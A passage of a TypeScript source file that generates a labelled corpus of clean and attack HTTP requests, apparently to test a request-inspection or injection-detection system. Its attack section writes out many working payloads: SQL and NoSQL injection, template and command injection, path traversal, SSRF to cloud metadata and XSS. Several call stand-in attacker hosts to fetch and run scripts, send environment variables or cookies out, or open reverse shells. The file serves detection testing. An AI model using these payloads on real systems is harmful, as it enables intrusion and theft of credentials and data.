        slug: pick(['release-3-18', 'remote-teams-101', 'why-we-moved-to-nats', 'black-friday']),
        body_html: `${nth(WIKI_BODIES, i)}<p>Questions? <a href="mailto:support@acme.example">Write to us</a>.</p>`,
        excerpt: nth(WORDY_PROSE, i),
        cover: { url: 'https://cdn.teamspace.example.com/media/cover-3-18.jpg', alt: 'Board with cards' },
        published_at: '2026-11-28T09:00:00Z',
      }),
      'browser',
    );
  else
    addClean(
      'cms',
      'PUT',
      '/cms/api/redirects',
      J,
      json({
        rules: [
          { from: '/old-blog/*', to: '/blog/:splat', status: 301 },
          { from: '/docs/v2/*', to: 'https://docs.teamspace.example.com/v3/:splat', status: 302 },
          {
            from: '/shop/sale',
            to: '/shop/collections/black-friday?utm_source=newsletter&utm_medium=email',
            status: 302,
          },
        ],
      }),
      'browser',
    );
}

// encoded values (12): base64 cursors and attachments, JSON inside strings, percent-encoded return URLs
for (let i = 0; i < 12; i++) {
  const r = i % 4;
  if (r === 0)
    addClean(
      'encoded',
      'GET',
      `/rest/api/3/issue/${key()}/comment?cursor=${enc(b64(json({ id: int(10000, 99999), created: '2026-11-20T10:00:00Z', dir: 'next' })))}&limit=20`,
      null,
      '',
      'sdk',
    );
  else if (r === 1)
    addClean(
      'encoded',
      'POST',
      '/api/chat.postMessage',
      JU,
      json({
        channel: 'C04DEPLOYS',
        text: nth(CHAT_MESSAGES, i),
        metadata: json({
          event_type: 'deploy_finished',
          event_payload: { version: '3.18.2', env: 'prod', duration_s: 312 },
        }),
        blocks: json([
          { type: 'section', text: { type: 'mrkdwn', text: `*Deploy* ${nth(CHAT_MESSAGES, i + 1)}` } },
        ]),
      }),
      'sdk',
    );
  else if (r === 2)
    addClean(
      'encoded',
      'POST',
      '/rest/api/3/issue/attachments/inline',
      J,
      json({
        issueKey: key(),
        filename: pick(['steps.txt', 'query.sql', 'curl-verbose.txt']),
        data: b64(pick([nth(LOGS, i), nth(WORDY_PROSE, i), `${nth(FENCES, i)[1]}\n`])),
      }),
      'sdk',
    );
  else
    addClean(
      'encoded',
      'POST',
      '/api/v1/session/handoff',
      J,
      json({
        return_to: enc(`https://acme.teamspace.example.com/issues/?jql=${enc(nth(JQLS, i))}`),
        state: b64(json({ nonce: hex(16), path: '/wiki/spaces/ENG/pages/884736' })),
      }),
      'browser',
    );
}

// plain reads (6)
for (let i = 0; i < 6; i++) {
  addClean(
    'rest-read',
    'GET',
    pick([
      `/rest/api/3/issue/${key()}?expand=renderedFields,changelog&fields=summary,description,comment`,
      `/wiki/api/v2/pages/${int(100000, 999999)}?body-format=storage&include-version=true`,
      `/api/conversations.history?channel=C04DEPLOYS&limit=100&oldest=1732780800.000000`,
      `/shop/api/products?collection=black-friday&sort=-created_at&page=${int(1, 9)}`,
      `/api/v1/users/${pick(HANDLES)}/avatar?size=64`,
    ]),
    null,
    '',
  );
}

// ---------------------------------------------------------------------------------------------------- attacks

const attacks: CorpusRequest[] = [];
function addAttack(
  family: string,
  technique: string,
  method: string,
  path: string,
  ct: string | null,
  body: string,
  client: 'browser' | 'sdk' | 'curl' | 'hook' | 'any' = 'any',
  extra: Record<string, string> = {},
): void {
  attacks.push({
    id: `x${attacks.length + 1}`,
    kind: 'attack',
    family,
    technique,
    method,
    path,
    headers: headers(ct, client, extra),
    body,
  });
}
const GQL_SEARCH = GQL[0]?.q as string;
const GQL_COMMENT = GQL[1]?.q as string;
const FORM = 'application/x-www-form-urlencoded';

/** One payload through one of this API's usual placements (technique = placement). */
function place(family: string, technique: string, p: string): void {
  switch (technique) {
    case 'title':
      addAttack(
        family,
        technique,
        'POST',
        '/rest/api/3/issue',
        J,
        json({
          fields: {
            project: { key: pick(PROJECTS) },
            issuetype: { name: 'Bug' },
            summary: p,
            description: 'Happens every time, see the title.',
          },
        }),
      );
      return;
    case 'markdown':
      addAttack(
        family,
        technique,
        'POST',
        '/rest/api/3/issue',
        J,
        json({
          fields: {
            project: { key: pick(PROJECTS) },
            issuetype: { name: 'Bug' },
            summary: 'Filter breaks on some input',
            description: `**Steps to reproduce**\n1. Open the board\n2. Enter ${p} in the quick filter\n3. See the error\n\n${nth(ENVS, attacks.length)}`,
          },
        }),
      );
      return;
    case 'prose-field':
      addAttack(
        family,
        technique,
        'POST',
        `/rest/api/3/issue/${key()}/comment`,
        J,
        json({ body: `Thanks, I checked again and ${p} is still what I get.` }),
        'browser',
      );
      return;
    case 'chat':
      addAttack(
        family,
        technique,
        'POST',
        '/api/chat.postMessage',
        JU,
        json({ channel: 'C02GENERAL', text: p }),
        'sdk',
      );
      return;
    case 'graphql-variables':
      if (family === 'sql')
        addAttack(
          family,
          technique,
          'POST',
          '/graphql',
          J,
          json({ query: GQL_SEARCH, variables: { jql: p, first: 50 } }),
          'sdk',
        );
      else
        addAttack(
          family,
          technique,
          'POST',
          '/graphql',
          J,
          json({ query: GQL_COMMENT, variables: { input: { issueKey: key(), body: p } } }),
          'sdk',
        );
      return;
    case 'nested':
      addAttack(
        family,
        technique,
        'POST',
        '/v3/issues',
        'application/vnd.api+json',
        json({
          data: {
            type: 'issues',
            attributes: {
              summary: 'Login broken on staging',
              custom_fields: { environment: { browser: 'Firefox 133', build: p } },
            },
            relationships: { project: { data: { type: 'projects', id: '12' } } },
          },
        }),
        'sdk',
      );
      return;
    case 'array':
      addAttack(
        family,
        technique,
        'PUT',
        `/rest/api/3/issue/${key()}`,
        J,
        json({ update: { labels: [{ add: 'bug' }, { add: p }] }, fields: { components: [{ name: 'API' }] } }),
      );
      return;
    case 'query':
      addAttack(family, technique, 'GET', `/api/v1/search?q=${enc(p)}&scope=all&page=1`, null, '', 'browser');
      return;
    case 'json-in-string':
      addAttack(
        family,
        technique,
        'POST',
        '/api/chat.postMessage',
        JU,
        json({
          channel: 'C04DEPLOYS',
          text: 'deploy finished',
          metadata: json({ event_type: 'deploy_finished', event_payload: { version: '3.18.3', note: p } }),
        }),
        'sdk',
      );
      return;
    case 'unicode-escape':
      addAttack(
        family,
        technique,
        'POST',
        '/api/chat.postMessage',
        JU,
        uescape({ channel: 'C02GENERAL', text: p }),
        'sdk',
      );
      return;
    case 'base64':
      addAttack(
        family,
        technique,
        'POST',
        '/api/v1/session/handoff',
        J,
        json({ return_to: '%2Fwiki%2Fspaces%2FENG', state: b64(json({ nonce: hex(16), path: p })) }),
        'browser',
      );
      return;
    case 'url-encoded':
      addAttack(
        family,
        technique,
        'POST',
        '/rest/api/3/filter',
        J,
        json({ name: 'Team view', share_url: `/issues/?jql=${enc(p)}`, favourite: true }),
        'browser',
      );
      return;
    case 'ndjson': {
      const lines = [0, 1, 2, 3].map((n) =>
        json({
          external_id: `GH-${int(1, 9000)}`,
          summary: n === 2 ? p : nth(ISSUE_TITLES, attacks.length + n),
          body: nth(WORDY_PROSE, attacks.length + n),
          reporter: nth(PEOPLE, n),
        }),
      );
      addAttack(
        family,
        technique,
        'POST',
        '/rest/api/3/import/issues',
        'application/x-ndjson',
        `${lines.join('\n')}\n`,
        'sdk',
      );
      return;
    }
    case 'json-patch':
      addAttack(
        family,
        technique,
        'PATCH',
        `/v3/issues/${int(1000, 99999)}`,
        'application/json-patch+json',
        json([
          { op: 'test', path: '/version', value: int(1, 30) },
          { op: 'replace', path: '/fields/summary', value: p },
        ]),
        'sdk',
      );
      return;
    case 'merge-patch':
      addAttack(
        family,
        technique,
        'PATCH',
        `/rest/api/3/issue/${key()}`,
        'application/merge-patch+json',
        json({ fields: { environment: p, labels: null } }),
        'sdk',
      );
      return;
    case 'form':
      addAttack(
        family,
        technique,
        'POST',
        `/cms/blog/${pick(['release-3-18', 'remote-teams-101'])}/comments`,
        FORM,
        form({ author: 'Sam', comment: p, 'g-recaptcha-response': `03AFcWeA${hex(60)}` }),
        'browser',
      );
      return;
    case 'path':
      addAttack(family, technique, 'GET', `/rest/api/3/issue/${enc(p)}?fields=summary`, null, '', 'curl');
      return;
    case 'webhook':
      addAttack(
        family,
        technique,
        'POST',
        '/hooks/github/4f2c9a',
        J,
        json({
          action: 'opened',
          number: int(100, 4000),
          pull_request: {
            title: p,
            body: 'Small fix, please review.',
            head: { ref: 'patch-1' },
            base: { ref: 'main' },
          },
        }),
        'hook',
        {
          'user-agent': 'GitHub-Hookshot/a1b2c3d',
          'x-github-event': 'pull_request',
          'x-hub-signature-256': `sha256=${hex(64)}`,
        },
      );
      return;
    case 'wiki-html':
      addAttack(
        family,
        technique,
        'PUT',
        `/wiki/api/v2/pages/${int(100000, 999999)}`,
        J,
        json({
          id: String(int(100000, 999999)),
          status: 'current',
          title: 'Runbook: Database failover',
          body: { representation: 'storage', value: `<p>Updated the contacts table.</p>${p}` },
          version: { number: int(2, 40) },
        }),
        'browser',
      );
      return;
    default:
      throw new Error(`unknown placement ${technique}`);
  }
}

// SQL injection (25)
const SQLI: readonly (readonly [string, string])[] = [
  ["1' UNION SELECT email,password_hash,NULL,NULL FROM users--", 'nested'],
  ["admin'-- ", 'form'],
  ["project = OPS' OR '1'='1' /*", 'graphql-variables'],
  ['1;SELECT pg_sleep(10)--', 'array'],
  ["x' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -", 'prose-field'],
  ['1 AND 1=CONVERT(int,(SELECT TOP 1 table_name FROM information_schema.tables))', 'query'],
  ["'; EXEC master..xp_cmdshell 'powershell -nop -c \"iwr http://203.0.113.9/a.ps1|iex\"'--", 'chat'],
  ["' || (SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE '' END FROM dual) || '", 'merge-patch'],
  ['-1 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--', 'base64'],
  ["1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT database()),0x7e),1)-- -", 'unicode-escape'],
  ["' UNION SELECT username, password FROM users WHERE '1'='1", 'json-in-string'],
  [
    "WEB-1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT user()),0x71))s), 8446744073709551610, 8446744073709551610)))-- ",
    'path',
  ],
  ["'; DROP TABLE issues;--", 'title'],
  ["' AND 1=2 UNION SELECT NULL,version(),current_user--", 'ndjson'],
  ["x') OR 1=1 LIMIT 1 OFFSET 0;--", 'json-patch'],
  [
    "' OR EXISTS(SELECT * FROM users WHERE email LIKE '%@acme.example' AND substr(password_hash,1,1)='$')--",
    'url-encoded',
  ],
  ["1'||(SELECT '' FROM dual WHERE 1=1 AND DBMS_PIPE.RECEIVE_MESSAGE('a',5))||'", 'markdown'],
  [
    "(SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.evil.example\\\\a')))",
    'nested',
  ],
  ["1' ORDER BY 12-- -", 'query'],
];
for (const [p, t] of SQLI) place('sql', t, p);
addAttack(
  'sql',
  'query-jql',
  'GET',
  `/rest/api/3/search/jql?jql=${enc("project = OPS' AND 1=(SELECT 1 FROM pg_sleep(5))--")}&maxResults=50`,
  null,
  '',
  'curl',
);
addAttack(
  'sql',
  'query-sort',
  'GET',
  `/v3/issues?filter[status]=open&sort=${enc("-updated,(SELECT CASE WHEN (SELECT substr(version(),1,1))='P' THEN 1 ELSE 1/0 END)")}`,
  null,
  '',
  'sdk',
);
addAttack(
  'sql',
  'json-api-id',
  'POST',
  '/v3/issues',
  'application/vnd.api+json',
  json({
    data: {
      type: 'issues',
      attributes: { summary: 'Crash on export' },
      relationships: {
        assignee: {
          data: { type: 'users', id: '1) AND 8317=(SELECT 8317 FROM PG_SLEEP(5)) AND (3610=3610' },
        },
      },
    },
  }),
  'sdk',
);
addAttack(
  'sql',
  'key',
  'POST',
  '/rest/api/3/issue',
  J,
  json({
    fields: {
      project: { key: 'WEB' },
      summary: 'Export broken',
      "customfield_10016' AND 1=(SELECT COUNT(*) FROM users WHERE is_admin)--": '3',
    },
  }),
  'sdk',
);
addAttack('sql', 'cookie', 'GET', '/jira/software/projects/WEB/boards/12', null, '', 'browser', {
  cookie: `tsession=${hex(32)}; last_board=12 WAITFOR DELAY '0:0:5'--`,
});
addAttack(
  'sql',
  'form',
  'POST',
  '/login',
  FORM,
  form({ os_username: "' OR 1=1 LIMIT 1-- -", os_password: 'x', os_remember: 'on' }),
  'browser',
);

// NoSQL operators (14)
addAttack(
  'nosql',
  'operator',
  'POST',
  '/api/v1/auth/login',
  J,
  json({ email: 'admin@acme.example', password: { $ne: null } }),
  'curl',
);
addAttack(
  'nosql',
  'operator',
  'POST',
  '/api/v1/auth/login',
  J,
  json({ username: { $regex: '^adm' }, password: { $gt: '' } }),
  'curl',
);
addAttack(
  'nosql',
  'where',
  'POST',
  '/api/v1/messages/search',
  J,
  json({ channel: 'C02GENERAL', filter: { $where: 'sleep(5000) || true' } }),
  'sdk',
);
addAttack(
  'nosql',
  'form',
  'POST',
  '/login',
  FORM,
  'os_username=admin%40acme.example&os_password%5B%24ne%5D=x&os_remember=on',
  'browser',
);
addAttack(
  'nosql',
  'query',
  'GET',
  '/v3/issues?filter[assignee][$ne]=nobody&filter[visibility][$in][]=private&include=assignee',
  null,
  '',
  'sdk',
);
addAttack(
  'nosql',
  'operator',
  'POST',
  '/api/v1/auth/password-reset/confirm',
  J,
  json({ token: { $regex: '.*' }, password: 'NewPassw0rd!2026' }),
  'curl',
);
addAttack(
  'nosql',
  'aggregation',
  'POST',
  '/api/v1/reports/run',
  J,
  json({
    collection: 'issues',
    pipeline: [
      { $lookup: { from: 'users', localField: 'reporter', foreignField: '_id', as: 'u' } },
      { $project: { 'u.email': 1, 'u.password_hash': 1, 'u.api_tokens': 1 } },
    ],
  }),
  'sdk',
);
addAttack(
  'nosql',
  'expr',
  'POST',
  '/api/v1/messages/search',
  J,
  json({
    filter: {
      $expr: { $function: { body: 'function() { sleep(5000); return true; }', args: [], lang: 'js' } },
    },
  }),
  'sdk',
);
addAttack(
  'nosql',
  'js-injection',
  'GET',
  `/api/v1/users/lookup?name=${enc("a'; return this.password.match(/^a/) && ''=='")}`,
  null,
  '',
  'curl',
);
addAttack(
  'nosql',
  'json-in-string',
  'GET',
  `/api/v1/pages?filter=${enc(json({ owner: { $ne: null }, restricted: true }))}&limit=100`,
  null,
  '',
  'sdk',
);
addAttack(
  'nosql',
  'graphql-variables',
  'POST',
  '/graphql',
  J,
  json({
    query: 'query Users($where: JSON) { users(where: $where) { nodes { id email role apiToken } } }',
    variables: { where: { email: { $regex: '.*@acme.example' }, role: { $eq: 'admin' } } },
  }),
  'sdk',
);
addAttack(
  'nosql',
  'nested',
  'POST',
  '/v3/issues/search',
  'application/vnd.api+json',
  json({
    data: {
      type: 'issue-searches',
      attributes: { criteria: { status: { $nin: [] }, private: { $exists: true } } },
    },
  }),
  'sdk',
);
addAttack(
  'nosql',
  'operator',
  'POST',
  '/api/v1/auth/login',
  J,
  json({ email: 'x@x.x', $or: [{ password: { $exists: true } }, { _id: { $gt: '' } }] }),
  'curl',
);
addAttack(
  'nosql',
  'base64',
  'GET',
  `/rest/api/3/issue/${key()}/comment?cursor=${enc(b64(json({ _id: { $gt: '' }, author: { $ne: null } })))}&limit=1000`,
  null,
  '',
  'sdk',
);

// template injection (14)
const SSTI: readonly (readonly [string, string])[] = [
  ["{{''.__class__.__mro__[1].__subclasses__()}}", 'title'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ["${T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.9/x')}", 'chat'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ['<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', 'markdown'],
  ['#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x', 'prose-field'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ['{{7*7}}${7*7}<%= 7*7 %>${{7*7}}#{7*7}', 'query'],
  [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    'graphql-variables',
  ],
  ["*{T(java.lang.Runtime).getRuntime().exec('id')}", 'form'],
  ["{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", 'json-in-string'],
  ['{% import os %}{{ os.popen("id").read() }}', 'unicode-escape'],
];
for (const [p, t] of SSTI) place('template', t, p);
addAttack(
  'template',
  'automation-template',
  'POST',
  '/rest/api/3/automation/rules',
  J,
  json({
    name: 'Auto-reply',
    trigger: { type: 'issue_created' },
    actions: [
      {
        type: 'comment',
        body: "Thanks {{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
      },
    ],
    enabled: true,
  }),
  'browser',
);
addAttack(
  'template',
  'automation-template',
  'POST',
  '/rest/api/3/automation/rules',
  J,
  json({
    name: 'Notify',
    trigger: { type: 'issue_created' },
    actions: [
      {
        type: 'send_chat',
        channel: '#general',
        message:
          '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
      },
    ],
  }),
  'browser',
);
addAttack(
  'template',
  'notification-template',
  'PUT',
  '/shop/admin/api/notifications/shipping_confirmation',
  J,
  json({
    subject: 'Your order {{ order.name }} is on its way',
    body_liquid: "Hi {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    enabled: true,
  }),
  'browser',
);
addAttack(
  'template',
  'nested',
  'PUT',
  `/cms/api/articles/${int(1, 900)}`,
  J,
  json({
    title: 'Remote teams 101',
    seo: {
      meta: {
        description: '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
      },
    },
  }),
  'browser',
);
addAttack(
  'template',
  'review',
  'POST',
  `/shop/api/products/${int(1000, 9999)}/reviews`,
  J,
  json({ rating: 5, title: 'Great', body: "<%= system('cat /etc/passwd') %>", author: 'Sam' }),
  'browser',
);

// command injection (22)
const CMDI: readonly (readonly [string, string])[] = [
  ['Bug: $(curl -sSfL https://evil.example/x.sh | bash)', 'title'],
  ['fix `wget -qO- http://203.0.113.7/p | sh` in installer', 'title'],
  ['a"; curl -sd "$(env | base64 -w0)" https://evil.example/c; #', 'title'],
  ['Update README $(printenv | curl -X POST --data-binary @- https://evil.example/e)', 'webhook'],
  ['/deploy web; nc -e /bin/sh 203.0.113.7 4444', 'chat'],
  [
    '| powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')"',
    'prose-field',
  ],
  ['bug && cat /etc/shadow', 'array'],
  ['$(id>&2)', 'graphql-variables'],
  [';{echo,Y3VybCBldmlsLmV4YW1wbGUvc3xzaA==}|{base64,-d}|bash', 'nested'],
  ['x||ping -c 10 127.0.0.1||', 'query'],
  ['`bash -i >& /dev/tcp/203.0.113.5/443 0>&1`', 'markdown'],
  [
    '$(python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",443));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")\')',
    'json-in-string',
  ],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  [';${IFS}wget${IFS}http://203.0.113.7/b${IFS}-O-|sh', 'unicode-escape'],
  ['|| curl http://203.0.113.9/$(whoami)', 'base64'],
  ['$(curl -s http://203.0.113.9/i | sh)', 'ndjson'],
  ['vim; curl http://203.0.113.9/x|sh', 'merge-patch'],
];
for (const [p, t] of CMDI) place('command', t, p);
addAttack(
  'command',
  'webhook-branch',
  'POST',
  '/hooks/github/4f2c9a',
  J,
  json({
    action: 'opened',
    number: int(100, 4000),
    pull_request: {
      title: 'Fix typo',
      body: '',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
      head: { ref: 'zzz";echo${IFS}"hello";curl${IFS}-sSfL${IFS}evil.example/s|bash;#' },
      base: { ref: 'main' },
    },
  }),
  'hook',
  { 'user-agent': 'GitHub-Hookshot/a1b2c3d', 'x-github-event': 'pull_request' },
);
addAttack(
  'command',
  'form',
  'POST',
  '/admin/network/ping',
  FORM,
  form({ host: '127.0.0.1;cat /etc/passwd', count: '3' }),
  'browser',
);
addAttack(
  'command',
  'url-encoded',
  'POST',
  '/api/v1/integrations/test',
  J,
  json({ type: 'ssh', host: 'git.acme.example%0acat%20/etc/passwd', port: 22 }),
  'browser',
);
addAttack(
  'command',
  'filename',
  'POST',
  `/rest/api/3/issue/${key()}/attachments/metadata`,
  J,
  json({ filename: '$(touch /tmp/pwned;curl evil.example/s|sh).png', mimeType: 'image/png', size: 1024 }),
  'browser',
);
addAttack('command', 'header', 'GET', '/cgi-bin/status', null, '', 'curl', {
  'user-agent': "() { :; }; /bin/bash -c 'curl http://203.0.113.9/sh | sh'",
});
addAttack(
  'command',
  'import-url',
  'POST',
  '/api/v1/repos/import',
  J,
  json({ name: 'runbooks', source: { type: 'git', url: 'ext::sh -c touch% /tmp/pwned', branch: 'main' } }),
  'sdk',
);

// path traversal (15)
const LFI: readonly (readonly [string, string])[] = [
  ['..%2f..%2f..%2f..%2fetc%2fpasswd', 'path'],
  ['..\\..\\..\\windows\\win.ini', 'array'],
  ['../../../../etc/passwd', 'base64'],
  ['../../../../../../app/.env', 'unicode-escape'],
  ['%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts', 'url-encoded'],
  ['../../.git/config', 'ndjson'],
];
for (const [p, t] of LFI) place('path-traversal', t, p);
addAttack(
  'path-traversal',
  'query',
  'GET',
  '/rest/api/3/attachment/content?file=../../../../etc/passwd',
  null,
  '',
  'curl',
);
addAttack(
  'path-traversal',
  'double-url',
  'GET',
  '/wiki/download/export?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd',
  null,
  '',
  'curl',
);
addAttack(
  'path-traversal',
  'query',
  'GET',
  '/cms/media?path=..%c0%af..%c0%af..%c0%afetc/passwd',
  null,
  '',
  'curl',
);
addAttack(
  'path-traversal',
  'nested',
  'POST',
  '/wiki/api/v2/attachments/upload-session',
  J,
  json({
    filename: 'token',
    mimeType: 'text/plain',
    size: 12,
    folder: '../../../../var/run/secrets/kubernetes.io/serviceaccount/',
  }),
  'sdk',
);
addAttack(
  'path-traversal',
  'json',
  'POST',
  '/api/v1/exports',
  J,
  json({ format: 'csv', project: 'OPS', output: '....//....//....//etc/shadow' }),
  'sdk',
);
addAttack(
  'path-traversal',
  'graphql-variables',
  'POST',
  '/graphql',
  J,
  json({
    query: 'query Attachment($path: String!) { attachment(path: $path) { filename content } }',
    variables: { path: '/proc/self/environ' },
  }),
  'sdk',
);
addAttack(
  'path-traversal',
  'json-patch',
  'PATCH',
  `/v3/attachments/${int(1000, 99999)}`,
  'application/json-patch+json',
  json([{ op: 'replace', path: '/storage_path', value: 'attachments/../../../../../root/.ssh/id_rsa' }]),
  'sdk',
);
addAttack(
  'path-traversal',
  'form',
  'POST',
  '/cms/themes/preview',
  FORM,
  form({ theme: 'default', template: '..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts' }),
  'browser',
);
addAttack(
  'path-traversal',
  'notification-template',
  'PUT',
  '/shop/admin/api/notifications/order_confirmation',
  J,
  json({ subject: 'Thanks!', body_liquid: "{% include '../../../../etc/passwd' %}", enabled: true }),
  'browser',
);

// SSRF (15)
const webhookReg = (technique: string, url: string): void =>
  addAttack(
    'ssrf',
    technique,
    'POST',
    '/rest/webhooks/1.0/webhook',
    J,
    json({
      name: 'CI notifier',
      url,
      events: ['jira:issue_created', 'comment_created'],
      filters: { 'issue-related-events-section': 'project = OPS' },
    }),
    'browser',
  );
webhookReg('webhook-url', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/');
webhookReg('webhook-url', 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0AFLUSHALL%0D%0A');
addAttack(
  'ssrf',
  'unfurl',
  'POST',
  '/api/chat.unfurl',
  J,
  json({
    channel: 'C02GENERAL',
    url: 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  }),
  'sdk',
);
addAttack(
  'ssrf',
  'avatar-url',
  'PUT',
  '/api/v1/users/me/avatar',
  J,
  json({ source: 'url', url: 'http://[::ffff:a9fe:a9fe]/latest/meta-data/' }),
  'browser',
);
addAttack(
  'ssrf',
  'import-url',
  'POST',
  '/wiki/api/v2/import',
  J,
  json({ spaceKey: 'ENG', format: 'html', source_url: 'http://2852039166/latest/user-data' }),
  'sdk',
);
addAttack(
  'ssrf',
  'import-url',
  'POST',
  '/wiki/api/v2/import',
  J,
  json({ spaceKey: 'ENG', format: 'markdown', source_url: 'file:///etc/passwd' }),
  'sdk',
);
addAttack(
  'ssrf',
  'graphql-variables',
  'POST',
  '/graphql',
  J,
  json({
    query: 'mutation Import($input: ImportInput!) { importIssues(input: $input) { jobId } }',
    variables: { input: { project: 'OPS', csvUrl: 'http://127.0.0.1:2375/containers/json' } },
  }),
  'sdk',
);
addAttack(
  'ssrf',
  'nested',
  'POST',
  '/rest/api/3/automation/rules',
  J,
  json({
    name: 'Sync',
    trigger: { type: 'issue_updated' },
    actions: [
      { type: 'http_request', request: { method: 'GET', url: 'http://localhost:8500/v1/agent/self' } },
    ],
  }),
  'browser',
);
addAttack(
  'ssrf',
  'array',
  'POST',
  '/api/v1/integrations/link-preview',
  J,
  json({ urls: ['https://git.acme.example/acme/web/pull/3412', 'dict://127.0.0.1:11211/stats'] }),
  'sdk',
);
addAttack(
  'ssrf',
  'query',
  'GET',
  `/api/v1/preview?url=${enc('http://0x7f000001:8080/admin')}`,
  null,
  '',
  'curl',
);
addAttack(
  'ssrf',
  'json-in-string',
  'POST',
  '/api/chat.postMessage',
  JU,
  json({
    channel: 'C04DEPLOYS',
    text: 'status',
    attachments: json([{ image_url: 'http://169.254.169.254.nip.io/latest/meta-data/', fallback: 'graph' }]),
  }),
  'sdk',
);
addAttack(
  'ssrf',
  'unicode-escape',
  'PUT',
  '/api/v1/users/me/avatar',
  J,
  uescape({ source: 'url', url: 'http://[fd00:ec2::254]/latest/meta-data/' }),
  'browser',
);
place('ssrf', 'markdown', '![graph](http://100.100.100.200/latest/meta-data/ram/security-credentials/)');
addAttack(
  'ssrf',
  'form',
  'POST',
  '/admin/integrations/webhooks',
  FORM,
  form({
    name: 'k8s',
    url: 'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
    active: '1',
  }),
  'browser',
);
addAttack(
  'ssrf',
  'base64',
  'POST',
  '/api/v1/integrations/test',
  J,
  json({
    type: 'webhook',
    config: b64(
      json({
        url: 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/',
      }),
    ),
  }),
  'browser',
);

// XSS (22)
const XSS: readonly (readonly [string, string])[] = [
  ["<script>fetch('//evil.example/c?'+document.cookie)</script>", 'wiki-html'],
  ['<img src=x onerror=alert(document.domain)>', 'wiki-html'],
  ['<a href="jav&#x09;ascript:alert(1)">runbook</a>', 'wiki-html'],
  ['<iframe src="javascript:alert(document.domain)"></iframe>', 'wiki-html'],
  ["<svg/onload=eval(atob('ZmV0Y2goJy8vZXZpbC5leGFtcGxlLz9jPScrZG9jdW1lbnQuY29va2llKQ=='))>", 'chat'],
  ["[Click to verify](javascript:fetch('//evil.example/'+localStorage.token))", 'markdown'],
  ['"><iframe srcdoc="<script>parent.alert(document.cookie)</script>">', 'title'],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', 'prose-field'],
  ["'-alert(document.domain)-'", 'query'],
  ['<input autofocus onfocus=alert(1)>', 'graphql-variables'],
  ['<script>alert(document.cookie)</script>', 'unicode-escape'],
  ['<img src=x onerror=alert(1)>', 'json-in-string'],
  ['<script>alert(1)</script>', 'array'],
  ['<svg><animate onbegin=alert(1) attributeName=x dur=1s>', 'ndjson'],
  ['<script>alert(document.cookie)</script>', 'url-encoded'],
  ["<img src=1 onerror=import('//evil.example/x.js')>", 'form'],
  ['"><svg onload=alert(1)>', 'query'],
];
for (const [p, t] of XSS) place('xss', t, p);
addAttack(
  'xss',
  'shop-html',
  'PUT',
  `/shop/admin/api/products/${int(1000, 9999)}`,
  J,
  json({
    product: { title: 'Union Canvas Tote', body_html: '<p>Heavy canvas.</p><body onpageshow=alert(1)>' },
  }),
  'browser',
);
addAttack(
  'xss',
  'nested',
  'PUT',
  `/cms/api/articles/${int(1, 900)}`,
  J,
  json({
    title: 'Black Friday',
    sections: [{ type: 'html', html: "<details open ontoggle=fetch('//evil.example/?'+document.cookie)>" }],
  }),
  'browser',
);
addAttack(
  'xss',
  'cms-html',
  'POST',
  '/cms/api/articles',
  J,
  json({
    title: 'Promo',
    body_html: '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  }),
  'browser',
);
addAttack(
  'xss',
  'base64',
  'POST',
  '/rest/api/3/issue/attachments/inline',
  J,
  json({
    issueKey: key(),
    filename: 'logo.svg',
    data: b64(
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect width="10" height="10"/></svg>',
    ),
  }),
  'browser',
);
addAttack('xss', 'header', 'GET', '/wiki/spaces/ENG/overview', null, '', 'browser', {
  referer: 'https://search.example/?q="><script>alert(1)</script>',
});

// prototype pollution (12)
addAttack(
  'prototype-pollution',
  'merge-patch',
  'PATCH',
  '/api/v1/users/me/settings',
  'application/merge-patch+json',
  '{"__proto__":{"isAdmin":true},"theme":"dark"}',
  'browser',
);
addAttack(
  'prototype-pollution',
  'nested',
  'PUT',
  '/api/v1/users/me/preferences',
  J,
